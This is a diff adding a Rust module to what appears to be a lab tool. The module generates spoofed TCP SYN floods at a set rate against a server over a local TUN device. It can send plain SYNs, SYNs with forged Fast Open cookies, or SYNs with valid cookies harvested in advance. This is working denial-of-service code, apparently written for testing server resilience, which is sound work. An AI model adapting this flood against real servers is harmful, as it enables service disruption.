@@ -1,0 +1,243 @@
+//! Floods of SYNs from addresses whose owners never answer, at a constant rate, behind the wire.
+
+use std::fs::File;
+use std::io::Write;
+use std::net::{Ipv4Addr, SocketAddrV4};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::thread::JoinHandle;
+use std::time::Duration;
+
+use serde::{Deserialize, Serialize};
+
+use super::flood_packet::{stranger, syn, take_back};
+use super::meter::{self, Processors};
+use super::wire::{CookieJar, lock};
+use crate::net::Tun;
+use crate::{LabError, clock, scheduling};
+
+/// What the SYNs of a flood are.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Kind {
+    /// Without the Fast Open option, without data: the flood of old.
+    Plain,
+    /// With data, and a cookie that is made up.
+    Forged,
+    /// With data, and the cookie that the server gave to this address: the attacker commands, or commanded, the
+    /// hosts there (RFC 7413, section 5.1).
+    Valid,
+}
+
+/// A flood.
+#[derive(Debug, Clone, Copy, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct FloodJob {
+    /// What its SYNs are.
+    pub kind: Kind,
+    /// SYNs per second.
+    pub rate: f64,
+    /// Addresses that cookies are fetched for; other floods come from 65,280.
+    pub addresses: u16,
+}
+
+/// What was sent so far.
+#[derive(Debug, Clone, Copy, Default)]
+pub(super) struct Sent {
+    pub(super) syns: u64,
+    /// What the server's kernel spent on them in the writes, ns.
+    pub(super) receiving: u64,
+}
+
+/// A running flood.
+#[derive(Debug)]
+pub(super) struct Flood {
+    shared: Arc<Shared>,
+    thread: JoinHandle<Result<(), LabError>>,
+}
+
+#[derive(Debug, Default)]
+struct Shared {
+    stop: AtomicBool,
+    syns: AtomicU64,
+    receiving: AtomicU64,
+}
+
+/// Cookie requests under way at once, and how long their answers may take.
+const ASKED_AT_ONCE: usize = 64;
+const COOKIE_PATIENCE: Duration = Duration::from_secs(2);
+const LOOK_AGAIN: Duration = Duration::from_millis(1);
+/// How long the thread rests between two bursts, ns.
+const REST_NS: u64 = 200_000;
+const COOKIE_BYTES: usize = 8;
+
+impl Flood {
+    /// Fetches the cookies that it needs, and begins.
+    ///
+    /// # Errors
+    /// [`LabError`] when the server gives none.
+    pub(super) fn start(
+        job: FloodJob,
+        server_tun: &Tun,
+        server: SocketAddrV4,
+        request: &[u8],
+        (jar, processors): (&CookieJar, Processors),
+    ) -> Result<Self, LabError> {
+        let tun = server_tun
+            .file()
+            .try_clone()
+            .map_err(|error| LabError::system("sharing a TUN device", error))?;
+        let mut attacker = Attacker {
+            tun,
+            server,
+            request: request.to_vec(),
+            random: fastrand::Rng::with_seed(u64::from(job.addresses)),
+            cookies: Vec::new(),
+        };
+        if job.kind == Kind::Valid {
+            attacker.fetch_cookies(job.addresses, jar)?;
+        }
+        let shared = Arc::new(Shared::default());
+        let theirs = Arc::clone(&shared);
+        let thread = std::thread::Builder::new()
+            .name("flood".to_owned())
+            .spawn(move || {
+                let _ = meter::stay_on(processors.server);
+                scheduling::become_relay(false);
+                attacker.flood(job, &theirs)
+            })
+            .map_err(|error| LabError::system("starting the flood", error))?;
+        Ok(Self { shared, thread })
+    }
+
+    /// What was sent so far.
+    pub(super) fn sent(&self) -> Sent {
+        Sent {
+            syns: self.shared.syns.load(Ordering::Relaxed),
+            receiving: self.shared.receiving.load(Ordering::Relaxed),
+        }
+    }
+
+    /// Ends it.
+    ///
+    /// # Errors
+    /// [`LabError`] when it broke off.
+    pub(super) fn finish(self) -> Result<(), LabError> {
+        self.shared.stop.store(true, Ordering::SeqCst);
+        let died = |_| LabError::new("the flood died", "please report this as a bug");
+        self.thread.join().map_err(died)?
+    }
+}
+
+struct Attacker {
+    tun: File,
+    server: SocketAddrV4,
+    request: Vec<u8>,
+    random: fastrand::Rng,
+    cookies: Vec<(Ipv4Addr, Vec<u8>)>,
+}
+
+impl Attacker {
+    /// Asks for a cookie with each address in turn, and takes every SYN back.
+    fn fetch_cookies(&mut self, addresses: u16, jar: &CookieJar) -> Result<(), LabError> {
+        let strangers: Vec<_> = (0..addresses).map(stranger).collect();
+        for some in strangers.chunks(ASKED_AT_ONCE) {
+            lock(jar).extend(some.iter().map(|stranger| (*stranger, None)));
+            let asked: Vec<_> = some
+                .iter()
+                .map(|stranger| (self.port_of(*stranger), self.random.u32(..)))
+                .collect();
+            for (source, sequence) in &asked {
+                self.send(&syn(*source, self.server, *sequence, Some(&[]), &[])?)?;
+            }
+            let found = wait_for_cookies(some, jar)?;
+            for (source, sequence) in &asked {
+                self.send(&take_back(*source, self.server, *sequence)?)?;
+            }
+            self.cookies.extend(some.iter().copied().zip(found));
+        }
+        Ok(())
+    }
+
+    fn flood(&mut self, job: FloodJob, shared: &Shared) -> Result<(), LabError> {
+        let (began, mut sent) = (clock::now(), 0_u64);
+        while !shared.stop.load(Ordering::Relaxed) {
+            let due = ((clock::now() - began) as f64 / 1e9 * job.rate) as u64;
+            let packets = (sent..due)
+                .map(|_| self.packet(job.kind))
+                .collect::<Result<Vec<_>, _>>()?;
+            let before = clock::thread_cpu();
+            packets.iter().try_for_each(|packet| self.send(packet))?;
+            shared
+                .receiving
+                .fetch_add(clock::thread_cpu() - before, Ordering::Relaxed);
+            shared.syns.store(due, Ordering::Relaxed);
+            sent = due;
+            std::thread::sleep(Duration::from_nanos(REST_NS));
+        }
+        Ok(())
+    }
+
+    fn packet(&mut self, kind: Kind) -> Result<Vec<u8>, LabError> {
+        let anybody = stranger(self.random.u16(..));
+        let (who, cookie) = match kind {
+            Kind::Plain => (anybody, None),
+            Kind::Forged => (
+                anybody,
+                Some(
+                    std::iter::repeat_with(|| self.random.u8(..))
+                        .take(COOKIE_BYTES)
+                        .collect(),
+                ),
+            ),
+            Kind::Valid => {
+                let (who, cookie) = &self.cookies[self.random.usize(..self.cookies.len())];
+                (*who, Some(cookie.clone()))
+            }
+        };
+        let data = if cookie.is_some() {
+            self.request.as_slice()
+        } else {
+            &[]
+        };
+        let (source, sequence) = (
+            SocketAddrV4::new(who, self.random.u16(1_024..)),
+            self.random.u32(..),
+        );
+        syn(source, self.server, sequence, cookie.as_deref(), data)
+    }
+
+    fn port_of(&mut self, stranger: Ipv4Addr) -> SocketAddrV4 {
+        SocketAddrV4::new(stranger, self.random.u16(1_024..))
+    }
+
+    fn send(&self, packet: &[u8]) -> Result<(), LabError> {
+        (&self.tun)
+            .write(packet)
+            .map(drop)
+            .map_err(|error| LabError::system("sending a SYN of the flood", error))
+    }
+}
+
+fn wait_for_cookies(strangers: &[Ipv4Addr], jar: &CookieJar) -> Result<Vec<Vec<u8>>, LabError> {
+    let deadline = clock::now() + COOKIE_PATIENCE.as_nanos() as u64;
+    loop {
+        let found: Option<Vec<_>> = {
+            let jar = lock(jar);
+            strangers
+                .iter()
+                .map(|stranger| jar.get(stranger).cloned().flatten())
+                .collect()
+        };
+        if let Some(found) = found {
+            return Ok(found);
+        }
+        if clock::now() > deadline {
+            return Err(LabError::new(
+                "the server gives no Fast Open cookies: there is no flood with valid ones",
+                "use a server that listens with TCP_FASTOPEN, or another --flood",
+            ));
+        }
+        std::thread::sleep(LOOK_AGAIN);
+    }
+}
